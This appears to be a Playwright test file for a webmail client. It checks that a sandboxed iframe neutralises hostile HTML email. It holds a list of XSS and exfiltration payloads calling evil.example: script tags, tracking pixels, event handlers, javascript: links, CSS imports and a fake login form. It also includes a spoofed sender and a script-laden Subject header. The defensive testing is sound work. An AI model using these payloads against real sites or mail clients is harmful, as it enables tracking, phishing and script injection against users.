import { test as base, type Page } from '@playwright/test';
import { letterPage } from '../../lib/mime/letter-page';
import { ConsoleDriver } from './console';
import { sendLetter } from './letters';
import { expect, test } from './site';

/** All that a letter may try. Whatever is asked for has `evil.example` in it; whatever runs sets `pwned`. */
const HOSTILE = [
  '<script>top.pwned = 1; window.pwned = 1; fetch("https://evil.example/fetch")</script>',
  '<script src="https://evil.example/script.js"></script>',
  '<img src="https://evil.example/pixel.gif?u=carol" width="1" height="1">',
  '<img src=x onerror="top.pwned = 2" srcset="https://evil.example/set.png 2x">',
  '<picture><source srcset="https://evil.example/source.png"><img></picture>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>top.pwned = 3</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<link rel="prefetch" href="https://evil.example/prefetch">',
  '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">',
  '<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/css.png) }</style>',
  '<style>@font-face { font-family: x; src: url(https://evil.example/font.woff2) } p { font-family: x }</style>',
  '<p style="background-image: url(https://evil.example/inline.png); list-style: image-set(\'https://evil.example/i.png\' 1x)">a</p>',
  '<svg><image href="https://evil.example/svg.png"/><script>top.pwned = 4</script><use href="https://evil.example/u#x"/></svg>',
  '<svg onload="top.pwned = 5"><animate onbegin="top.pwned = 6" attributeName="x"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:top.pwned=7">m</maction></math>',
  '<video src="https://evil.example/film" poster="https://evil.example/poster" autoplay></video>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<form id="f" action="https://evil.example/form" method="post"><input name="p" autofocus onfocus="top.pwned = 8"><button>Log in again</button></form>',
  '<a href="https://evil.example/link" target="_top" ping="https://evil.example/ping">Your account</a>',
  '<a href="javascript:top.pwned=9">Run me</a>',
  '<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>',
  '<details open ontoggle="top.pwned = 10"><summary>More</summary>x</details>',
  '<textarea></textarea><noscript><img src="https://evil.example/noscript.png"></noscript>',
];

async function openLetter(page: Page, subject: RegExp) {
  await page.getByRole('button', { name: 'Mailboxes', exact: true }).click();
  await page.getByRole('region', { name: 'Server' }).getByRole('button', { name: subject }).click();
}

const choose = (page: Page, view: string) => page.getByText(view, { exact: true }).click();

const pwned = (page: Page) => page.evaluate(() => Reflect.get(window, 'pwned'));

test('HTML that wants to load, run, send or lead away does nothing of it', async ({ page }) => {
  const driver = new ConsoleDriver(page);
  await driver.open('plain');
  page.on('dialog', (dialog) => dialog.dismiss().then(() => Promise.reject(new Error('a dialog'))));
  const header = [
    'From: =?utf-8?Q?=E2=80=AEelpmaxe?= <mallory@campus.example>',
    'To: carol@campus.example',
    'Subject: <script>top.pwned=11</script><img src=x onerror=top.pwned=12>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
  ];
  await sendLetter(driver, header, HOSTILE);
  const before = page.url();
  await openLetter(page, /<script>top\.pwned=11/);

  // The list and the open letter show the subject as text, and nothing hides in the name.
  await expect(page.getByRole('article').getByRole('heading', { level: 3 })).toHaveText(
    '<script>top.pwned=11</script><img src=x onerror=top.pwned=12>',
  );
  await expect(page.getByRole('article')).toContainText('From ‹RLO›elpmaxe.');

  const letter = page.getByRole('region', { name: 'The letter' });
  const frame = letter.locator('iframe');
  await expect(frame).toHaveAttribute('sandbox', '');
  const inside = frame.contentFrame();
  await expect(inside.getByText('Your account')).toBeVisible();
  // Neither a press nor a key does anything.
  await inside.getByText('Your account').click();
  await inside.getByText('Run me').click();
  await expect(inside.getByRole('button')).toHaveCount(0);
  await expect(inside.getByRole('link')).toHaveCount(0);
  await expect(
    inside.locator('script, iframe, object, embed, form, input, link, base, svg, img, video'),
  ).toHaveCount(0);

  // What was kept from it is told.
  await expect(letter).toContainText(/pictures from elsewhere not loaded \(evil\.example\)/);
  await expect(letter).toContainText('a tracking pixel');
  await expect(letter).toContainText(/\d+ scripts not run/);
  await expect(letter).toContainText('wanted to go to another page');
  await expect(letter).toContainText('1 form not shown');

  // Its source and its parts are text.
  await choose(page, 'Source');
  await expect(page.getByRole('region', { name: 'Source' })).toContainText(
    '<script src="https://evil.example/script.js">',
  );
  await choose(page, 'Parts');
  await expect(page.getByRole('region', { name: 'Part 1' })).toContainText('top.pwned = 5');
  await choose(page, 'Envelope');
  await expect(page.getByRole('region', { name: 'Envelope and header' })).toContainText(
    'MAIL FROM:<mallory@campus.example>',
  );

  expect(await pwned(page)).toBeUndefined();
  expect(page.url()).toBe(before);
  for (const one of page.frames().slice(1)) expect(one.url()).toMatch(/^about:/);
  // That nothing was fetched, and nothing complained, is what every test of the site is held to.
});

// The frame has to hold even if what is put into it were not cleaned at all. Here the browser does complain.
base('the frame alone lets nothing out either', async ({ page, context, baseURL }) => {
  const asked: string[] = [];
  // What the policy or the rule of the same origin stopped was not asked for, though the browser tells of it.
  context.on('requestfinished', (request) => asked.push(request.url()));
  context.on('requestfailed', (request) => {
    const why = request.failure()?.errorText ?? '';
    if (why !== 'csp' && why !== 'origin') asked.push(`${request.url()}: ${why}`);
  });
  // A document without a script of ours: nothing but the frame stands between the letter and the net.
  await page.goto(`${baseURL}/favicon.ico`);
  await page.evaluate(
    (srcdoc) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', '');
      frame.referrerPolicy = 'no-referrer';
      frame.srcdoc = srcdoc;
      document.body.replaceChildren(frame);
    },
    letterPage(HOSTILE.filter((line) => !line.includes('dns-prefetch')).join('\n')),
  );
  await expect(page.locator('iframe').contentFrame().getByText('cell')).toBeVisible();
  await page.waitForTimeout(1000);
  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
  expect(await pwned(page)).toBeUndefined();
  expect(page.frames().filter((frame) => frame.url().includes('evil.example'))).toEqual([]);
});
